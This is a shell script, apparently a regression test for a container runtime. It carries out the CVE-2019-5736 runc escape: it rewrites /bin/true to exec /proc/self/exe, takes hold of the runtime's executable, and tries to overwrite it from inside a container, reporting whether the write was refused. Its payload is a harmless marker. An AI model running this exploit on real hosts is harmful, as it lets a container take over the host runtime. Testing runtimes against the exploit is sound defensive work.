#!/bin/sh
# CVE-2019-5736 from inside a root container, busybox applets only (SwkRuncTests.ExeSealTests,
# EndToEndTests.ExeSealEndToEndTests). Prints "armed", "held PID EXE", then "rewritten: …" or
# "refused: REASON", then "done".
# 1. /bin/true becomes "#!/proc/self/exe --log=FIFO": the next time the runtime execs /bin/true
#    here (an exec probe, `swkubectl exec`), its child's execve runs the runtime's own image in the
#    container, which then blocks opening its --log FIFO: the attack has no race to win.
# 2. Find that process (its exe is not busybox; the runtime's child before its execve should not
#    even be readable), hold its /proc/PID/exe open read-only, then let it go on by reading the FIFO.
# 3. Once it is gone and the file no longer busy, try to rewrite it through /proc/self/fd/3.
set -u
fifo=/tmp/exe-attack.log
mkdir -p /tmp
rm -f "$fifo"
mkfifo "$fifo"
# Renamed into place whole: a probe running meanwhile finds the old /bin/true or the new one,
# never a missing or half-made file (a failure then would look like the trigger having run).
printf '#!/proc/self/exe --log=%s\n' "$fifo" > /bin/.true.new
chmod 755 /bin/.true.new
mv -f /bin/.true.new /bin/true
echo armed
pid=
while [ -z "$pid" ]; do
  for p in /proc/[0-9]*; do
    exe=`readlink "$p/exe" 2>/dev/null` || continue
    case "$exe" in ""|/bin/busybox) continue ;; esac
    # Checked in a subshell first: a failed redirection on `exec` would end this shell.
    if ( : < "$p/exe" ) 2>/dev/null; then
      exec 3< "$p/exe"
      pid=${p#/proc/}
      break
    fi
  done
  [ -n "$pid" ] || usleep 20000
done
echo "held $pid $exe"
cat "$fifo" > /dev/null
for i in `seq 500`; do [ -e "/proc/$pid" ] || break; usleep 10000; done
result=refused
for i in `seq 100`; do
  if { printf 'pwned by a container\n' > /proc/self/fd/3; } 2>/tmp/exe-attack.err; then result=rewritten; break; fi
  usleep 20000
done
echo "$result: `cat /tmp/exe-attack.err`"
echo done
exec sleep 100000
